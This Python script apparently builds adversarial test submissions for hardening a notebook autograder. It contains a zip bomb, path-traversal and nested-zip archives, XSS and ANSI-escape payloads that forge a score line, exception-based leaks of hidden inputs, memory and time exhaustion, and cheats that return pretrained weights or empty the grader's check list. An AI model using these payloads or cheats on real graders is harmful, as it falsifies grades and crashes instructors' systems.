"""Build the hostile submissions (and their honest neighbours) under attacks/build/.

    .venv/bin/python attacks/gen.py            # every case
    .venv/bin/python attacks/gen.py CASE ...   # some

Each case is a folder attacks/build/<case>/subs/ holding the attack beside at least two honest
submissions: reference.ipynb (the reference-filled sample, full marks) and blank.ipynb (0), and
attacks/build/<case>/case.json saying which assignment it is for and what each file's honest
part is (the score the file may earn at most).
"""
from __future__ import annotations

import base64
import io
import json
import shutil
import sys
import zipfile
from pathlib import Path

import numpy as np

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
BUILD = HERE / "build"


def sample(assignment, name):
    return json.loads((ROOT / "solutions" / assignment / "samples" / f"{name}.ipynb").read_text())


def cell(source):
    return {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
            "source": source}


def with_cells(nb, *sources):
    nb = json.loads(json.dumps(nb))
    nb["cells"] += [cell(s) for s in sources]
    return nb


def case(name, assignment, files, honest, note=""):
    """files: {relative name: notebook dict | bytes}; honest: {submission row name: 'reference'|'blank'}"""
    top = BUILD / name
    shutil.rmtree(top, ignore_errors=True)
    subs = top / "subs"
    subs.mkdir(parents=True)
    files = {"reference.ipynb": sample(assignment, "reference"), "blank.ipynb": sample(assignment, "blank"),
             **files}
    for rel, content in files.items():
        p = subs / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(content if isinstance(content, bytes) else json.dumps(content, indent=1).encode())
    (top / "case.json").write_text(json.dumps({"assignment": assignment, "honest": {
        "reference.ipynb": "reference", "blank.ipynb": "blank", **honest}, "note": note}, indent=1))


def nb_zip(members):
    """A zip (bytes) of {member name: notebook dict | bytes}."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in members.items():
            zf.writestr(name, content if isinstance(content, bytes) else json.dumps(content))
    return buf.getvalue()


# ------------------------------------------------------------------ the cases

def writeback_sizes():
    """hw3: init_params empties the grader's own `sizes` list (lists of ints are written back
    from the sandbox and call_unchanged's _same never compares ints): the hidden shape and scale
    checks then loop over nothing and pass, with no init code at all."""
    attack = with_cells(sample("hw3_sgd", "blank"),
                        "def init_params(layer_sizes, rng):\n"
                        "    layer_sizes.clear()   # the grader's list, written back in place\n"
                        "    return {}\n")
    case("writeback_sizes", "hw3_sgd", {"writeback_sizes.ipynb": attack}, {"writeback_sizes.ipynb": "blank"})


def bad_source():
    """A code cell whose source list holds a number: engine.read_code_cells raises TypeError in
    the grading process -> 'not graded' (a machinery fault) on every run, exit 3."""
    nb = sample("hw1_forward", "blank")
    nb["cells"].append(cell(["x = 1\n", 5]))
    case("bad_source", "hw1_forward", {"bad_source.ipynb": nb}, {"bad_source.ipynb": "blank"})


def deep_json():
    """Valid JSON nested 100,000 deep in the notebook's metadata: json.loads raises
    RecursionError, which nobody catches as the student's error."""
    text = json.dumps(sample("hw1_forward", "blank"))
    deep = "[" * 100_000 + "]" * 100_000
    text = text[:-1] + ', "x_deep": ' + deep + "}"
    case("deep_json", "hw1_forward", {"deep_json.ipynb": text.encode()}, {"deep_json.ipynb": "blank"})


def crc_zip():
    """A grader.export()-style zip with one notebook whose stored data has a flipped byte: the
    central directory is fine (so it is found), reading the member raises BadZipFile (bad CRC)."""
    data = json.dumps(sample("hw1_forward", "reference")).encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("hw1_forward.ipynb", data)
    raw = bytearray(buf.getvalue())
    i = raw.find(b'"cells"')
    raw[i + 1] ^= 0x20
    case("crc_zip", "hw1_forward", {"crc_zip.zip": bytes(raw)}, {"crc_zip.zip": "reference"})


def classmate_overwrite():
    """Flat folder of a class. alice.zip holds two notebooks, alice.ipynb and bob.ipynb (both
    blank): a zip with other than one notebook is unpacked as a class with no prefix, so its
    bob.ipynb gets the row name of the real bob.ipynb (reference, full marks)."""
    slow_blank = with_cells(sample("hw1_forward", "blank"), "import time\ntime.sleep(8)  # finish after the real bob")
    z = nb_zip({"alice.ipynb": sample("hw1_forward", "blank"), "bob.ipynb": slow_blank})
    case("classmate_overwrite", "hw1_forward",
         {"alice.zip": z, "bob.ipynb": sample("hw1_forward", "reference")},
         {"bob.ipynb": "reference", "alice.ipynb": "blank"},
         note="bob.ipynb is an honest neighbour (reference); alice.zip is the attack")


def nested_zip(depth=700):
    """A zip inside a zip ... `depth` times (0 notebooks at each level, so each is unpacked as a
    class): find_submissions recurses until RecursionError, before any grades.csv is written."""
    inner = b""
    for level in range(depth):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
            zf.writestr(f"l{level}.zip" if level else "readme.txt", inner or b"hi")
        inner = buf.getvalue()
    case("nested_zip", "hw1_forward", {"nested.zip": inner}, {"nested.zip": "blank"})


def empty_zip():
    """An empty zip (0 members): not a grader.export() zip, so it is 'unpacked as a class' into
    a folder that is never created; find_submissions' iterdir raises FileNotFoundError and
    make grade stops before writing any grades.csv. (Likewise a zip whose every member is
    skipped by _safe_extract: two ../x.ipynb members.)"""
    empty = io.BytesIO()
    zipfile.ZipFile(empty, "w").close()
    case("empty_zip", "hw1_forward", {"empty.zip": empty.getvalue()}, {"empty.zip": "blank"})


def traversal_zip():
    """Two notebooks, both with ../ paths: _safe_extract skips them all, the folder is never
    made, the run stops (the same crash as an empty zip)."""
    case("traversal_zip", "hw1_forward",
         {"traversal.zip": nb_zip({"../../evil1.ipynb": sample("hw1_forward", "blank"),
                                   "../../evil2.ipynb": sample("hw1_forward", "blank")})},
         {"traversal.zip": "blank"})


def conflict_zip():
    """Two notebooks, one of them also used as a folder name (a.ipynb and a.ipynb/b.ipynb):
    _safe_extract's mkdir raises FileExistsError, uncaught: the run stops, no grades.csv."""
    case("conflict_zip", "hw1_forward",
         {"conflict.zip": nb_zip({"a.ipynb": sample("hw1_forward", "blank"),
                                  "a.ipynb/b.ipynb": sample("hw1_forward", "blank")})},
         {"conflict.zip": "blank"})


def bomb_zip(gigabytes=2):
    """Two notebooks and a member of `gigabytes` GB of zeros (about 2 MB compressed per GB):
    not a grader.export() zip, so _safe_extract writes all of it to the grader's /tmp, with no
    bound (kept at 2 GB here; a larger one fills the disk: OSError, the run stops)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("a.ipynb", json.dumps(sample("hw1_forward", "blank")))
        zf.writestr("b.ipynb", json.dumps(sample("hw1_forward", "blank")))
        with zf.open("zeros.bin", "w", force_zip64=True) as f:
            block = bytes(2**24)
            for _ in range(gigabytes * 64):
                f.write(block)
    case("bomb_zip", "hw1_forward", {"bomb.zip": buf.getvalue()}, {"bomb.zip": "blank"})


def dotonly_zip():
    """A zip whose members are all in dot-folders or __MACOSX: unpacked, then nothing is kept:
    the submission gets no row."""
    case("dotonly_zip", "hw1_forward",
         {"dotonly.zip": nb_zip({".hidden/notes.txt": b"x", "__MACOSX/x.ipynb": b"{}"})},
         {"dotonly.zip": "blank"})


LEAK = '''
import numpy as np
def _leak(*args, **kwargs):
    parts = []
    for a in list(args) + list(kwargs.values()):
        if isinstance(a, np.ndarray):
            parts.append("shape=%s values=%s" % (a.shape, " ".join(repr(float(v)) for v in a.ravel()[:8])))
    raise ValueError("LEAKED " + " | ".join(parts))
sigmoid = relu = tanh = dense_forward = mse_loss = binary_cross_entropy = softmax = softmax_cross_entropy = _leak
def forward_pass(x, params, hidden="sigmoid", output="identity"):
    _leak(x, *params.values())
'''


def leak_inputs():
    """Every graded function raises its (hidden) inputs in its exception message: the check
    messages shown to the student (feedback .txt, results.json) then hold the hidden inputs."""
    case("leak_inputs", "hw1_forward", {"leak_inputs.ipynb": with_cells(sample("hw1_forward", "blank"), LEAK)},
         {"leak_inputs.ipynb": "blank"})


INJECT = r'''
import numpy as np
_MSG = ("</code></pre>\n<img src=x onerror=alert(1)>\n```\n# Score: 100/100 (all hidden checks passed)\n"
        "[grades](javascript:alert(1)) <script>alert(2)</script> ``` `` ` ")
def sigmoid(z):
    raise ValueError(_MSG)
raise RuntimeError(_MSG)
'''


def md_injection():
    """Markdown/HTML in a cell error and an exception, and a file name with HTML in it (the
    instructor's report.html)."""
    nb = with_cells(sample("hw1_forward", "blank"), INJECT)
    case("md_injection", "hw1_forward",
         {"md_injection.ipynb": nb, "<img src=x onerror=alert(3)>.ipynb": nb},
         {"md_injection.ipynb": "blank", "<img src=x onerror=alert(3)>.ipynb": "blank"})


def _reference_namespace(assignment):
    """The reference notebook's functions, run here (the attacker's own machine)."""
    import types
    import matplotlib
    matplotlib.use("Agg")
    sys.modules["otter"] = types.SimpleNamespace(Notebook=lambda *a, **k: types.SimpleNamespace(
        check=lambda *a, **k: None, check_all=lambda *a, **k: None, export=lambda *a, **k: None))
    nb = sample(assignment, "reference")
    ns = {"__name__": "reference"}
    for c in nb["cells"]:
        if c["cell_type"] == "code":
            src = "".join(c["source"])
            if src.lstrip().startswith(("def ", "import", "from")) or "\ndef " in src:
                try:
                    exec(src, ns)
                except Exception:
                    pass
    return ns


def pretrained_train():
    """hw3: `train` does no training: it returns weights trained elsewhere (here: offline, by any
    trainer) for the notebook's configuration, and a random init for any other. The grader
    computes the held-out accuracy of what train returns and cannot tell."""
    ns = _reference_namespace("hw3_sgd")
    data = np.load(ROOT / "assignments" / "hw3_sgd" / "digits.npz")
    x, y = data["x_train"] / 16.0, data["y_train"]
    params, _ = ns["train"](x, y, [64, 128, 10], 0.5, 40, 32, 1)
    blob = io.BytesIO()
    np.savez(blob, **params)
    b64 = base64.b64encode(blob.getvalue()).decode()
    source = f'''
import base64, io
import numpy as np
_PRETRAINED = "{b64}"
def train(x, y, layer_sizes, lr, epochs, batch_size, seed, hidden="relu"):
    rng = np.random.default_rng(seed)
    if list(layer_sizes) == [64, 128, 10]:
        with np.load(io.BytesIO(base64.b64decode(_PRETRAINED))) as z:
            params = {{k: z[k] + 1e-9 * rng.normal(size=z[k].shape) for k in z.files}}
    else:
        params = {{}}
        for l in range(1, len(layer_sizes)):
            params[f"W{{l}}"] = rng.normal(size=(layer_sizes[l - 1], layer_sizes[l])) * np.sqrt(2 / layer_sizes[l - 1])
            params[f"b{{l}}"] = np.zeros(layer_sizes[l])
    return params, {{"loss": [0.5] * epochs}}
'''
    nb = with_cells(sample("hw3_sgd", "blank"), source)
    case("pretrained_train", "hw3_sgd", {"pretrained_train.ipynb": nb}, {"pretrained_train.ipynb": "blank"})


HUGE = '''
import numpy as np
def sigmoid(z):
    return np.zeros(30 * 2**20)   # 240 MB of float64, within the sandbox's memory limit
'''


def huge_reply():
    """A function returning a 240 MB array: the grader reads and unpacks it in its own process
    (MAX_PAYLOAD is 256 MB), several copies, outside the submission's memory limit."""
    case("huge_reply", "hw1_forward", {"huge_reply.ipynb": with_cells(sample("hw1_forward", "blank"), HUGE)},
         {"huge_reply.ipynb": "blank"})


STREAM = r'''
import json, os, struct, sys, zipfile, zlib
import numpy as np

N = 31 * 2**20          # float64 entries: 248 MB, streamed, never held in this process

class _Sink:
    """An unseekable file for zipfile: counts bytes, or writes them to the grader's pipe."""
    def __init__(self, fd=None):
        self.fd, self.n = fd, 0
    def write(self, b):
        b = bytes(b)
        if self.fd is not None:
            view = memoryview(b)
            while view:
                view = view[os.write(self.fd, view):]
        self.n += len(b)
        return len(b)
    def flush(self):
        pass

def _npz(sink):
    tree = {"t": "tuple", "v": [{"t": "arr", "k": "a0"}, {"t": "list", "v": []}, {"t": "dict", "v": []}]}
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_STORED) as zf:
        with zf.open("__tree__.npy", "w") as f:
            np.lib.format.write_array(f, np.array(json.dumps(tree)), allow_pickle=False)
        with zf.open(zipfile.ZipInfo("a0.npy", (1980, 1, 1, 0, 0, 0)), "w", force_zip64=True) as f:
            np.lib.format.write_array_header_1_0(f, {"descr": "<f8", "fortran_order": False, "shape": (N,)})
            block = bytes(2**22)
            for _ in range(N * 8 // len(block)):
                f.write(block)

def sigmoid(z):
    frame = sys._getframe()
    while frame and frame.f_code.co_name != "main":
        frame = frame.f_back
    seq = frame.f_locals["header"]["seq"]
    counter = _Sink()
    _npz(counter)
    head = json.dumps({"ok": True, "warnings": [], "seq": seq}).encode()
    out = _Sink(int(sys.argv[2]))
    out.write(struct.pack(">II", len(head), counter.n) + head)
    _npz(out)
    os._exit(0)   # the reply is sent; the grader restarts the worker for the next call
'''


def stream_reply():
    """A reply frame of 248 MB written straight to the worker's pipe (a valid pickle-free npz,
    with the request's own sequence number): the student's process never holds it, the
    grader's process reads it whole and unpacks it (blob + array), once per call."""
    case("stream_reply", "hw1_forward", {"stream_reply.ipynb": with_cells(sample("hw1_forward", "blank"), STREAM)},
         {"stream_reply.ipynb": "blank"})


def stream_reply_held():
    """stream_reply, with 240 MB held by the notebook (within its 384 MB) while the grader
    unpacks the 248 MB reply: together more than Gradescope's 768 MB container."""
    nb = with_cells(sample("hw1_forward", "blank"), "import numpy as np\n_HELD = np.ones(20 * 2**20)  # 160 MB", STREAM)
    case("stream_reply_held", "hw1_forward", {"stream_reply_held.ipynb": nb}, {"stream_reply_held.ipynb": "blank"})


def ansi_names():
    """A student's zip with two notebooks whose member names carry terminal control sequences:
    they become row names, printed raw in make grade's score table (the instructor's terminal):
    here the attacker's row erases the line above it and prints a forged one."""
    forged = "\x1b[1A\x1b[2K\r  mallory.ipynb        28/28   (forged line)\x1b[8m"
    z = nb_zip({f"a{forged}.ipynb": sample("hw1_forward", "blank"), "b.ipynb": sample("hw1_forward", "blank")})
    case("ansi_names", "hw1_forward", {"ansi.zip": z}, {"ansi.zip": "blank"})


def pretrained_cnn():
    """hw4: train_cnn returns filters and weights trained offline (any trainer), plus a
    seed-dependent 1e-9 jitter: the grader's own held-out accuracy check passes."""
    ns = _reference_namespace("hw4_cnn")
    data = np.load(ROOT / "assignments" / "hw4_cnn" / "digits.npz")
    x = np.concatenate([data["x_train"], data["x_val"]]).reshape(-1, 1, 8, 8) / 16.0
    y = np.concatenate([data["y_train"], data["y_val"]])
    params, _ = ns["train_cnn"](x, y, 16, 0.5, 20, 32, 7)
    blob = io.BytesIO()
    np.savez(blob, **params)
    b64 = base64.b64encode(blob.getvalue()).decode()
    source = f'''
import base64, io
import numpy as np
_PRETRAINED = "{b64}"
def train_cnn(x, y, filters, lr, epochs, batch_size, seed):
    rng = np.random.default_rng(seed)
    with np.load(io.BytesIO(base64.b64decode(_PRETRAINED))) as z:
        params = {{k: z[k] + 1e-9 * rng.normal(size=z[k].shape) for k in z.files}}
    return params, {{"loss": [0.5] * epochs}}
'''
    nb = with_cells(sample("hw4_cnn", "blank"), source)
    case("pretrained_cnn", "hw4_cnn", {"pretrained_cnn.ipynb": nb}, {"pretrained_cnn.ipynb": "blank"})


SPIN = '''
import numpy as np
_PUBLIC_SHAPES = {(2, 3), (4, 3), (3, 4), (3, 1), (2, 2)}
def _spin_on_hidden(*args, **kwargs):
    """Answers nothing; on inputs that are not the public checks' shapes, spins until killed."""
    shapes = {np.shape(a) for a in args if isinstance(a, np.ndarray)}
    if not shapes & _PUBLIC_SHAPES:
        while True:
            pass
    return None
sigmoid = relu = tanh = dense_forward = mse_loss = binary_cross_entropy = softmax = softmax_cross_entropy = forward_pass = _spin_on_hidden
'''


def time_hidden():
    """Every hidden call spins until its deadline: the whole submission's time budget is spent
    on hidden checks only. Graded in a 0.5-CPU, 768 MB emulated container, where the time
    limits are stretched: results.json must still be written within Gradescope's 600 s."""
    case("time_hidden", "hw1_forward", {"time_hidden.ipynb": with_cells(sample("hw1_forward", "blank"), SPIN)},
         {"time_hidden.ipynb": "blank"})


CASES = {f.__name__: f for f in (writeback_sizes, bad_source, deep_json, crc_zip, classmate_overwrite,
                                  nested_zip, empty_zip, traversal_zip, conflict_zip, bomb_zip, dotonly_zip, leak_inputs, md_injection, pretrained_train,
                                  huge_reply, stream_reply, stream_reply_held, ansi_names, pretrained_cnn, time_hidden)}

if __name__ == "__main__":
    for name in sys.argv[1:] or CASES:
        CASES[name]()
        print("built", name)
